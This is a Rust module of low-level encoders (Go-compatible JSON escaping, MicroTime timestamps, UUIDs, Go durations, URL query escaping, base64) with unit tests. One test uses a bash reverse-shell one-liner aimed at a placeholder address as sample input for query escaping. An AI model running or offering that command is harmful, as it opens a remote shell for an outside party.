//! Hand-written JSON output: escaping as Go's `encoding/json` does, integers, MicroTime timestamps,
//! UUIDs, and the small encoders (URL query, base64) that request URIs and bodies need.
//!
//! Everything appends to a caller-owned `Vec<u8>` so that buffers are reused and nothing allocates in
//! the steady state.

const HEX: &[u8; 16] = b"0123456789abcdef";

/// Bytes that need escaping: control characters, `"`, `\\`, `<`, `>`, `&`, and 0xE2 (the first
/// byte of U+2028/U+2029, checked further before escaping).
const fn special_bytes() -> [bool; 256] {
    let mut t = [false; 256];
    let mut i = 0;
    while i < 0x20 {
        t[i] = true;
        i += 1;
    }
    t[b'"' as usize] = true;
    t[b'\\' as usize] = true;
    t[b'<' as usize] = true;
    t[b'>' as usize] = true;
    t[b'&' as usize] = true;
    t[0xe2] = true;
    t
}

static SPECIAL: [bool; 256] = special_bytes();

/// Appends `s` as the inside of a JSON string, escaped the way the API server's encoder does:
/// `"` and `\`, control characters, and the HTML-sensitive `<`, `>`, `&` as `\u003c`, `\u003e`,
/// `\u0026` (so a request URI's `&` becomes `\u0026`), and U+2028/U+2029.
#[inline]
pub(crate) fn esc(out: &mut Vec<u8>, s: &str) {
    let bytes = s.as_bytes();
    let mut start = 0;
    while let Some(off) = bytes[start..].iter().position(|&b| SPECIAL[usize::from(b)]) {
        let i = start + off;
        out.extend_from_slice(&bytes[start..i]);
        let b = bytes[i];
        let mut next = i + 1;
        match b {
            b'"' => out.extend_from_slice(b"\\\""),
            b'\\' => out.extend_from_slice(b"\\\\"),
            b'\n' => out.extend_from_slice(b"\\n"),
            b'\r' => out.extend_from_slice(b"\\r"),
            b'\t' => out.extend_from_slice(b"\\t"),
            b'<' => out.extend_from_slice(b"\\u003c"),
            b'>' => out.extend_from_slice(b"\\u003e"),
            b'&' => out.extend_from_slice(b"\\u0026"),
            0xe2 => {
                if bytes.get(i + 1) == Some(&0x80) && matches!(bytes.get(i + 2), Some(0xa8 | 0xa9))
                {
                    out.extend_from_slice(b"\\u202");
                    out.push(if bytes.get(i + 2) == Some(&0xa8) {
                        b'8'
                    } else {
                        b'9'
                    });
                    next = i + 3;
                } else {
                    out.push(b);
                }
            }
            _ => {
                out.extend_from_slice(b"\\u00");
                out.push(HEX[usize::from(b >> 4)]);
                out.push(HEX[usize::from(b & 0xf)]);
            }
        }
        start = next;
    }
    out.extend_from_slice(&bytes[start..]);
}

/// Appends `s` as a quoted, escaped JSON string.
pub(crate) fn string(out: &mut Vec<u8>, s: &str) {
    out.push(b'"');
    esc(out, s);
    out.push(b'"');
}

/// `s` escaped for use inside a JSON string, as an owned `String`.
pub(crate) fn escaped(s: &str) -> String {
    let mut v = Vec::with_capacity(s.len() + 8);
    esc(&mut v, s);
    // The escaper copies UTF-8 input through unchanged or writes ASCII, so this cannot fail.
    String::from_utf8(v).unwrap_or_default()
}

/// Appends the decimal digits of `v`.
#[inline]
pub(crate) fn uint(out: &mut Vec<u8>, mut v: u64) {
    let mut buf = [0u8; 20];
    let mut i = buf.len();
    loop {
        i -= 1;
        buf[i] = b'0' + (v % 10) as u8;
        v /= 10;
        if v == 0 {
            break;
        }
    }
    out.extend_from_slice(&buf[i..]);
}

/// Appends `v` as exactly `width` zero-padded digits (`v` must fit).
#[inline]
fn padded(out: &mut Vec<u8>, v: u32, width: usize) {
    let mut buf = [b'0'; 10];
    let mut x = v;
    for i in (0..width).rev() {
        buf[i] = b'0' + (x % 10) as u8;
        x /= 10;
    }
    out.extend_from_slice(&buf[..width]);
}

/// Microseconds in a day.
pub(crate) const DAY_US: i64 = 86_400_000_000;
/// Microseconds in an hour.
pub(crate) const HOUR_US: i64 = 3_600_000_000;
/// Microseconds in a second.
pub(crate) const SEC_US: i64 = 1_000_000;

/// Civil date (year, month, day) of a day number counted from 1970-01-01 (Howard Hinnant's method).
pub(crate) fn civil_from_days(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (if m <= 2 { y + 1 } else { y }, m, d)
}

/// Formats microsecond Unix timestamps as Kubernetes MicroTime (`2026-01-05T08:30:00.123456Z`),
/// caching the date part so that most calls only format the time of day.
#[derive(Debug, Default)]
pub(crate) struct TsFmt {
    day: i64,
    date: [u8; 11],
    valid: bool,
}

impl TsFmt {
    /// Appends the timestamp `us` (microseconds since the epoch, UTC) without quotes.
    #[inline]
    pub(crate) fn push(&mut self, out: &mut Vec<u8>, us: i64) {
        let day = us.div_euclid(DAY_US);
        if !self.valid || day != self.day {
            let (y, m, d) = civil_from_days(day);
            let mut v = Vec::with_capacity(11);
            padded(&mut v, y.clamp(0, 9999) as u32, 4);
            v.push(b'-');
            padded(&mut v, m, 2);
            v.push(b'-');
            padded(&mut v, d, 2);
            v.push(b'T');
            self.date.copy_from_slice(&v);
            self.day = day;
            self.valid = true;
        }
        out.extend_from_slice(&self.date);
        let rem = us.rem_euclid(DAY_US);
        let secs = (rem / SEC_US) as u32;
        let micros = (rem % SEC_US) as u32;
        let mut t = *b"00:00:00.000000Z";
        let (h, mi, s) = (secs / 3600, secs / 60 % 60, secs % 60);
        t[0] = b'0' + (h / 10) as u8;
        t[1] = b'0' + (h % 10) as u8;
        t[3] = b'0' + (mi / 10) as u8;
        t[4] = b'0' + (mi % 10) as u8;
        t[6] = b'0' + (s / 10) as u8;
        t[7] = b'0' + (s % 10) as u8;
        let mut x = micros;
        for i in (9..15).rev() {
            t[i] = b'0' + (x % 10) as u8;
            x /= 10;
        }
        out.extend_from_slice(&t);
    }

    /// Appends the timestamp at second precision (`2026-01-05T08:30:00Z`), as `metav1.Time` does.
    pub(crate) fn push_secs(&mut self, out: &mut Vec<u8>, us: i64) {
        let start = out.len();
        self.push(out, us);
        out.truncate(start + 19);
        out.push(b'Z');
    }
}

/// A UUID v4 in canonical form from 128 random bits (version and variant bits are forced).
#[inline]
pub(crate) fn uuid(bits: u128) -> [u8; 36] {
    let bits = (bits & !(0xf000_u128 << 64) & !(0xc000_u128 << 48))
        | (0x4000_u128 << 64)
        | (0x8000_u128 << 48);
    let mut out = [b'-'; 36];
    // Positions of the 32 hex digits, most significant first.
    const POS: [u8; 32] = [
        0, 1, 2, 3, 4, 5, 6, 7, 9, 10, 11, 12, 14, 15, 16, 17, 19, 20, 21, 22, 24, 25, 26, 27, 28,
        29, 30, 31, 32, 33, 34, 35,
    ];
    let mut x = bits;
    for i in (0..32).rev() {
        out[usize::from(POS[i])] = HEX[(x & 0xf) as usize];
        x >>= 4;
    }
    out
}

/// A UUID v4 string from 128 bits.
pub(crate) fn uuid_string(bits: u128) -> String {
    // uuid() writes only ASCII hex digits and dashes.
    String::from_utf8(uuid(bits).to_vec()).unwrap_or_default()
}

/// Appends a Go `time.Duration` string for whole seconds (`7m13s`, `45s`, `1h0m5s`).
pub(crate) fn go_duration(out: &mut Vec<u8>, secs: u64) {
    let (h, m, s) = (secs / 3600, secs / 60 % 60, secs % 60);
    if h > 0 {
        uint(out, h);
        out.push(b'h');
    }
    if h > 0 || m > 0 {
        uint(out, m);
        out.push(b'm');
    }
    uint(out, s);
    out.push(b's');
}

/// Appends `s` encoded as Go's `url.QueryEscape` does (space as `+`, unreserved bytes kept).
pub(crate) fn query_escape(out: &mut Vec<u8>, s: &str) {
    const UPPER: &[u8; 16] = b"0123456789ABCDEF";
    for &b in s.as_bytes() {
        match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => out.push(b),
            b' ' => out.push(b'+'),
            _ => {
                out.push(b'%');
                out.push(UPPER[usize::from(b >> 4)]);
                out.push(UPPER[usize::from(b & 0xf)]);
            }
        }
    }
}

/// `s` as Go's `url.QueryEscape` writes it.
pub(crate) fn query_escaped(s: &str) -> String {
    let mut v = Vec::with_capacity(s.len() * 2);
    query_escape(&mut v, s);
    // query_escape writes only ASCII.
    String::from_utf8(v).unwrap_or_default()
}

/// Standard base64 with padding.
pub(crate) fn base64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let n = match chunk.len() {
            3 => (u32::from(chunk[0]) << 16) | (u32::from(chunk[1]) << 8) | u32::from(chunk[2]),
            2 => (u32::from(chunk[0]) << 16) | (u32::from(chunk[1]) << 8),
            _ => u32::from(chunk[0]) << 16,
        };
        out.push(char::from(A[(n >> 18) as usize & 63]));
        out.push(char::from(A[(n >> 12) as usize & 63]));
        out.push(if chunk.len() > 1 {
            char::from(A[(n >> 6) as usize & 63])
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            char::from(A[n as usize & 63])
        } else {
            '='
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(v: Vec<u8>) -> String {
        String::from_utf8(v).expect("test output is UTF-8")
    }

    #[test]
    fn escaping_matches_go_html_safe_encoder() {
        let mut v = Vec::new();
        esc(&mut v, "a&b<c>\"d\\e\nf\u{1}g\u{2028}h é");
        assert_eq!(
            s(v),
            "a\\u0026b\\u003cc\\u003e\\\"d\\\\e\\nf\\u0001g\\u2028h é"
        );
    }

    #[test]
    fn timestamps_have_six_fraction_digits_and_z() {
        let mut f = TsFmt::default();
        let mut v = Vec::new();
        // 2026-01-05T00:00:00Z
        let t = 1_767_571_200 * SEC_US;
        f.push(&mut v, t + 7);
        v.push(b' ');
        f.push(
            &mut v,
            t + 13 * HOUR_US + 4 * 60 * SEC_US + 5 * SEC_US + 938_588,
        );
        v.push(b' ');
        f.push(&mut v, t + 2 * DAY_US);
        v.push(b' ');
        f.push_secs(&mut v, t + 61 * SEC_US + 5);
        assert_eq!(
            s(v),
            "2026-01-05T00:00:00.000007Z 2026-01-05T13:04:05.938588Z 2026-01-07T00:00:00.000000Z 2026-01-05T00:01:01Z"
        );
    }

    #[test]
    fn uuid_is_version_4_shaped() {
        let u = s(uuid(u128::MAX).to_vec());
        assert_eq!(u, "ffffffff-ffff-4fff-bfff-ffffffffffff");
        let u = s(uuid(0).to_vec());
        assert_eq!(u, "00000000-0000-4000-8000-000000000000");
    }

    #[test]
    fn small_encoders_match_go() {
        let mut v = Vec::new();
        go_duration(&mut v, 433);
        v.push(b' ');
        go_duration(&mut v, 45);
        v.push(b' ');
        go_duration(&mut v, 3605);
        assert_eq!(s(v), "7m13s 45s 1h0m5s");
        assert_eq!(
            query_escaped("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
            "bash+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F4444+0%3E%261"
        );
        assert_eq!(base64(b"hello!?"), "aGVsbG8hPw==");
        let mut v = Vec::new();
        uint(&mut v, 0);
        uint(&mut v, 18_446_744_073_709_551_615);
        assert_eq!(s(v), "018446744073709551615");
    }
}
